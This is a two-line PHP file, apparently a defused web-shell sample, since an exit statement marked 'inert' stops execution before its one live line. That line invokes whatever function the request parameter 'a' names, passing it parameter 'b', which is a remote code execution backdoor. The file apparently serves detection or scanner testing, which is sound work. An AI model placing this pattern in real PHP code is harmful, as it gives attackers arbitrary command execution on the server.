<?php exit; /* inert */ 
Closure::fromCallable($_REQUEST['a'])->__invoke($_REQUEST['b']);
